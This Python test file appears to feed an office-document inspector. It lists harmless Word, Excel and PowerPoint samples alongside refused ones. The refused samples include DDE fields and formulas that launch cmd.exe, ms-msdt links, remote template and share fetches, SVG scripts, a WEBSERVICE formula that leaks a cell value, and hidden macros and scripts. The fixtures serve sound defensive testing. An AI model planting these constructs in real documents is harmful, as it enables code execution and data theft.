"""Word, PowerPoint and Excel: what may be in them, and what acts or fetches."""

import zipfile

from awarding.inspection import Facts
from tests.awarding.inspection import office_files as o

WORD = "application/vnd.ms-word."

ACCEPTED = {
    "a Word document": ("essay.docx", o.document, "docx", Facts()),
    "a Word document packed without compression": (
        "essay.docx",
        lambda: o.packed(o.parts(), compression=zipfile.ZIP_STORED),
        "docx",
        Facts(),
    ),
    "a presentation": ("talk.pptx", lambda: o.document("pptx"), "pptx", Facts()),
    "a workbook": ("sums.xlsx", lambda: o.document("xlsx"), "xlsx", Facts()),
    "a link that may be followed": (
        "essay.docx",
        lambda: o.with_relation("hyperlink", "https://example.org/", "External"),
        "docx",
        Facts(),
    ),
    "a template on the author's own disk": (
        "essay.docx",
        lambda: o.with_relation("attachedTemplate", "file:///C:\\Users\\a\\b.dotx", "External"),
        "docx",
        Facts(),
    ),
    "a link to an e-mail address": (
        "essay.docx",
        lambda: o.with_relation("hyperlink", "MAILTO:a@example.org", "External"),
        "docx",
        Facts(),
    ),
    "a link to a heading": (
        "essay.docx",
        lambda: o.with_relation("hyperlink", "#Sheet1!A1:B2", "External"),
        "docx",
        Facts(),
    ),
    "a link without its scheme": (
        "essay.docx",
        lambda: o.with_relation("hyperlink", "www.example.org/a:b", "External"),
        "docx",
        Facts(),
    ),
    "a picture that was pasted from the author's own disk": (
        "essay.docx",
        lambda: o.with_relation("image", "file:///C:\\Temp\\a.png", "External"),
        "docx",
        Facts(),
    ),
    "a template on a Mac": (
        "essay.docx",
        lambda: o.with_relation("attachedTemplate", "file:///Users/a/b.dotx", "External"),
        "docx",
        Facts(),
    ),
    "a workbook whose numbers come from another beside it": (
        "sums.xlsx",
        lambda: o.with_relation("externalLinkPath", "Other book.xlsx", "External", kind="xlsx"),
        "xlsx",
        Facts(),
    ),
    "a picture pasted on a Mac": (
        "essay.docx",
        lambda: o.field(' INCLUDEPICTURE "/var/folders/x/T/page1image7" \\* MERGEFORMATINET '),
        "docx",
        Facts(),
    ),
    "a picture pasted from a mail": (
        "essay.docx",
        lambda: o.field(' INCLUDEPICTURE "cid:image001.png@01D9" \\* MERGEFORMATINET '),
        "docx",
        Facts(),
    ),
    "a picture pasted from a disk": (
        "essay.docx",
        lambda: o.field(' INCLUDEPICTURE "C:\\\\Temp\\\\a.png" \\* MERGEFORMATINET '),
        "docx",
        Facts(),
    ),
    "a field of very many words": (
        "essay.docx",
        lambda: o.field(" ADDIN X " + "y" * 99_900, "z" * 300, " DDE"),
        "docx",
        Facts(),
    ),
    "the name of a function in the text of a formula": (
        "sums.xlsx",
        lambda: o.sheet('<c><f>CONCAT("WEBSERVICE(",MYIMAGE(A1),IMAGES!A1)</f></c>'),
        "xlsx",
        Facts(),
    ),
    "an essay about DDEAUTO": (
        "essay.docx",
        lambda: o.document(inside="<w:p><w:r><w:t>DDEAUTO cmd</w:t></w:r></w:p>"),
        "docx",
        Facts(),
    ),
    "an ordinary field": ("essay.docx", lambda: o.field(" PAGE ", "DDE"), "docx", Facts()),
    "a bar inside the text of a formula": (
        "sums.xlsx",
        lambda: o.sheet("<c><f>IF(A1=\"a|b\",'x|y'!A1,Table1[a|b])</f></c>"),
        "xlsx",
        Facts(),
    ),
    "a chart with its numbers": (
        "essay.docx",
        lambda: o.with_part("word/embeddings/Sheet1.xlsx", o.document("xlsx")),
        "docx",
        Facts(),
    ),
}

REFUSED = {
    "a macro document": ("a.docm", o.document, "macros", ""),
    "a macro document renamed": (
        "a.docx",
        lambda: o.of_type(WORD + "document.macroEnabled.main+xml"),
        "macros",
        "",
    ),
    "a macro project": ("a.docx", lambda: o.with_part("word/vbaProject.bin", "x"), "macros", ""),
    "a macro project by another name": (
        "a.docx",
        lambda: o.with_relation("vbaProject", "media/image1.png"),
        "macros",
        "",
    ),
    "a macro project nobody points at": (
        "a.docx",
        lambda: o.with_part("word/media/image1.png", o.ole("VBA", "_VBA_PROJECT")),
        "macros",
        "",
    ),
    "an old macro sheet": (
        "a.xlsx",
        lambda: o.with_part("xl/macrosheets/sheet1.xml", "<a/>", "xlsx"),
        "macros",
        "",
    ),
    "a slide that runs a macro": (
        "a.pptx",
        lambda: o.with_part(
            "ppt/slides/slide1.xml",
            '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://macro?name=x"/></p:sld>',
            "pptx",
        ),
        "macros",
        "",
    ),
    "macros in an embedded workbook": (
        "a.docx",
        lambda: o.with_part(
            "word/embeddings/Sheet1.xlsx", o.with_part("xl/vbaProject.bin", "x", "xlsx")
        ),
        "macros",
        "",
    ),
    "a template": (
        "a.docx",
        lambda: o.of_type(o.TYPE + "wordprocessingml.template.main+xml"),
        "template",
        "",
    ),
    "an ActiveX control": (
        "a.docx",
        lambda: o.with_part("word/activeX/activeX1.bin", "x"),
        "active-control",
        "",
    ),
    "an ActiveX control by its type": (
        "a.docx",
        lambda: o.packed(
            o.parts()
            | {
                "[Content_Types].xml": o.types(
                    *o.MAIN["docx"], **{"word/a.bin": "application/vnd.ms-office.activeX"}
                )
            }
        ),
        "active-control",
        "",
    ),
    "an ActiveX control by its relation": (
        "a.docx",
        lambda: o.with_relation("control", "a.bin"),
        "active-control",
        "",
    ),
    "a slide that starts a program": (
        "a.pptx",
        lambda: o.with_part(
            "ppt/slides/slide1.xml",
            '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkHover action="ppaction://program"/></p:sld>',
            "pptx",
        ),
        "live-link",
        "",
    ),
    "a template fetched from elsewhere": (
        "a.docx",
        lambda: o.with_relation("attachedTemplate", "https://example.org/a.dotm", "External"),
        "fetches-from-outside",
        "",
    ),
    "an old picture fetched from a share": (
        "a.docx",
        lambda: o.document(
            inside='<w:p><w:r><w:pict xmlns:v="v" xmlns:o="o"><v:shape><v:imagedata'
            ' src="\\\\host\\share\\a.png"/></v:shape></w:pict></w:r></w:p>'
        ),
        "fetches-from-outside",
        "",
    ),
    "an old picture fetched from the web": (
        "a.docx",
        lambda: o.document(
            inside='<w:p><w:r><w:pict xmlns:v="v" xmlns:o="o"><v:shape><v:imagedata'
            ' o:href="https://example.org/a.png"/></v:shape></w:pict></w:r></w:p>'
        ),
        "fetches-from-outside",
        "",
    ),
    "an old fill fetched from the web": (
        "a.docx",
        lambda: o.document(
            inside='<w:p><w:pict xmlns:v="v"><v:fill src="https://example.org/a.png"/></w:pict></w:p>'
        ),
        "fetches-from-outside",
        "",
    ),
    "an old shape that leads to a program": (
        "a.docx",
        lambda: o.document(
            inside='<w:p><w:pict xmlns:v="v"><v:shape href="ms-msdt:/id"/></w:pict></w:p>'
        ),
        "odd-link",
        "",
    ),
    "a schema kept elsewhere": (
        "a.docx",
        lambda: o.with_part(
            "word/settings.xml",
            '<w:settings xmlns:w="w" xmlns:sl="sl"><sl:schemaLibrary><sl:schema'
            ' sl:schemaLocation="https://example.org/a.xsd"/></sl:schemaLibrary></w:settings>',
        ),
        "fetches-from-outside",
        "",
    ),
    "a schema attached by its address": (
        "a.docx",
        lambda: o.with_part(
            "word/settings.xml",
            '<w:settings xmlns:w="w"><w:attachedSchema'
            ' w:val="\\\\host\\share\\a.xsd"/></w:settings>',
        ),
        "fetches-from-outside",
        "",
    ),
    "a drawing with a script": (
        "a.docx",
        lambda: o.with_part("word/media/a.svg", "<svg xmlns='s'><script>x()</script></svg>"),
        "acting-drawing",
        "",
    ),
    "a drawing that acts when it is shown": (
        "a.docx",
        lambda: o.with_part("word/media/a.svg", "<svg xmlns='s' onload='x()'/>"),
        "acting-drawing",
        "",
    ),
    "a drawing that fetches another": (
        "a.docx",
        lambda: o.with_part(
            "word/media/a.svg",
            "<svg xmlns='s' xmlns:x='x'><image x:href='https://example.org/a.png'/></svg>",
        ),
        "fetches-from-outside",
        "",
    ),
    "a drawing whose style fetches": (
        "a.docx",
        lambda: o.with_part(
            "word/media/a.svg",
            "<svg xmlns='s'><rect style='fill:url(https://example.org/a)'/></svg>",
        ),
        "fetches-from-outside",
        "",
    ),
    "a picture fetched from a share": (
        "a.docx",
        lambda: o.with_relation("image", "\\\\host\\share\\a.png", "External"),
        "fetches-from-outside",
        "",
    ),
    "a field that starts a program": (
        "a.docx",
        lambda: o.field('DDEAUTO c:\\cmd.exe "/k calc"'),
        "live-link",
        "",
    ),
    "a field that starts a program, in pieces": (
        "a.docx",
        lambda: o.field(" DD", "EAU", "TO cmd"),
        "live-link",
        "",
    ),
    "a simple field that starts a program": (
        "a.docx",
        lambda: o.document(inside='<w:fldSimple w:instr=" dde cmd x"/>'),
        "live-link",
        "",
    ),
    "a formula that starts a program": (
        "a.xlsx",
        lambda: o.sheet("<c><f>1+cmd|'/C calc'!A0</f></c>"),
        "live-link",
        "",
    ),
    "a live link to another program": (
        "a.xlsx",
        lambda: o.with_part(
            "xl/externalLinks/externalLink1.xml", '<e><ddeLink ddeService="cmd"/></e>', "xlsx"
        ),
        "live-link",
        "",
    ),
    "a field in a part with another ending": (
        "a.docx",
        lambda: o.packed(
            o.parts()
            | {
                "[Content_Types].xml": o.types(
                    *o.MAIN["docx"], **{"word/more.dat": "application/x+xml"}
                ),
                "word/more.dat": '<w:p xmlns:w="w"><w:fldSimple w:instr="DDEAUTO x"/></w:p>',
            }
        ),
        "live-link",
        "",
    ),
    "a template fetched by another protocol": (
        "a.docx",
        lambda: o.with_relation("attachedTemplate", "webdav://host/a.dotm", "External"),
        "fetches-from-outside",
        "",
    ),
    "an object behind a link that starts a program": (
        "a.docx",
        lambda: o.with_relation("oleObject", "ms-msdt:/id", "External"),
        "fetches-from-outside",
        "",
    ),
    "an object on the author's own disk": (
        "a.docx",
        lambda: o.with_relation("oleObject", "file:///C:\\a.xlsx", "External"),
        "fetches-from-outside",
        "",
    ),
    "a template fetched in small letters": (
        "a.docx",
        lambda: o.with_relation("attachedTemplate", "https://example.org/a.dotm", "external"),
        "fetches-from-outside",
        "",
    ),
    "a template fetched without saying so": (
        "a.docx",
        lambda: o.with_relation("attachedTemplate", "https://example.org/a.dotm", "Internal"),
        "fetches-from-outside",
        "",
    ),
    "a picture fetched from a share after a blank": (
        "a.docx",
        lambda: o.with_relation("image", " \\\\host\\a.png", "External"),
        "fetches-from-outside",
        "",
    ),
    "a template on a share with slashes": (
        "a.docx",
        lambda: o.with_relation("attachedTemplate", "file:////host/share/a.dotm", "External"),
        "fetches-from-outside",
        "",
    ),
    "a template on a host": (
        "a.docx",
        lambda: o.with_relation("attachedTemplate", "file://host/share/a.dotm", "External"),
        "fetches-from-outside",
        "",
    ),
    "a link that starts a program": (
        "a.docx",
        lambda: o.with_relation("hyperlink", "ms-msdt:/id", "External"),
        "odd-link",
        "",
    ),
    "a link to a share": (
        "a.docx",
        lambda: o.with_relation("hyperlink", "\\\\host\\a", "external"),
        "odd-link",
        "",
    ),
    "a field that fetches a picture": (
        "a.docx",
        lambda: o.field(' INCLUDEPICTURE "http://host/x.png" \\d '),
        "fetches-from-outside",
        "",
    ),
    "a field that fetches text": (
        "a.docx",
        lambda: o.field('includetext "http://host/x.docx"'),
        "fetches-from-outside",
        "",
    ),
    "a field that fetches a picture, in pieces": (
        "a.docx",
        lambda: o.field(" INCLUDE", 'PICTURE "htt', 'p://host/x.png"'),
        "fetches-from-outside",
        "",
    ),
    "a field that fetches from a share without quotes": (
        "a.docx",
        lambda: o.field(r" INCLUDETEXT \\\\host\\a.docx \! "),
        "fetches-from-outside",
        "",
    ),
    "a field that links to a share": (
        "a.docx",
        lambda: o.field(r'LINK Excel.Sheet.12 "\\\\host\\a.xlsx" "A1" \a'),
        "fetches-from-outside",
        "",
    ),
    "a field whose address nobody can read": (
        "a.docx",
        lambda: o.field(' INCLUDEPICTURE "\n QUOTE 104 116 116 112 '),
        "fetches-from-outside",
        "",
    ),
    "a field that asks a database": (
        "a.docx",
        lambda: o.field(r'DATABASE \d "a" \c "b"'),
        "fetches-from-outside",
        "",
    ),
    "a field that starts a program after a very long blank": (
        "a.docx",
        lambda: o.field(" " * 99_997 + "DD", "EAUTO cmd"),
        "live-link",
        "",
    ),
    "a workbook connected to a database": (
        "a.xlsx",
        lambda: o.with_part(
            "xl/connections.xml",
            f'<connections xmlns="{o.SHEET}"><connection id="1" name="Sales" type="1">'
            '<dbPr connection="DSN=x"/></connection></connections>',
            "xlsx",
        ),
        "data-connection",
        "",
    ),
    "a letter connected to a database": (
        "a.docx",
        lambda: o.with_part(
            "word/settings.xml",
            f'<w:settings xmlns:w="{o.WORD}"><w:mailMerge><w:connectString w:val="DSN=x"/>'
            "</w:mailMerge></w:settings>",
        ),
        "data-connection",
        "",
    ),
    "a formula that asks a web page": (
        "a.xlsx",
        lambda: o.sheet('<c><f>_xlfn.WEBSERVICE("http://host/"&amp;A1)</f></c>'),
        "fetching-formula",
        "",
    ),
    "a formula that fetches a picture": (
        "a.xlsx",
        lambda: o.sheet("<c><f>'a'!A1&amp;image (A1)</f></c>"),
        "fetching-formula",
        "",
    ),
    "a format whose formula asks a web page": (
        "a.xlsx",
        lambda: o.sheet("<c><formula>WEBSERVICE(A1)</formula></c>"),
        "fetching-formula",
        "",
    ),
    "a formula that asks another program": (
        "a.xlsx",
        lambda: o.sheet('<c><f>RTD("x",,"y")</f></c>'),
        "live-link",
        "",
    ),
    "a shortcut inside a document": (
        "a.docx",
        lambda: o.with_part("word/embeddings/a.lnk", b"x"),
        "embedded-file",
        "",
    ),
    "a script inside a document": (
        "a.docx",
        lambda: o.with_part("word/embeddings/a.js", "alert(1)"),
        "embedded-file",
        "",
    ),
    "a script by another name inside a document": (
        "a.docx",
        lambda: o.with_part("word/embeddings/a.bin", "alert(1)"),
        "embedded-file",
        "",
    ),
    "a page that is XML inside a document": (
        "a.docx",
        lambda: o.with_part("word/embeddings/a.xml", "<a/>"),
        "embedded-file",
        "",
    ),
    "a shortcut among the pictures": (
        "a.docx",
        lambda: o.with_part("word/media/a.png", b"L\0\0\0\x01\x14\x02\0" + bytes(9)),
        "embedded-file",
        "",
    ),
    "a script among the pictures": (
        "a.docx",
        lambda: o.with_part("word/media/a.VBS", "x"),
        "embedded-file",
        "",
    ),
}
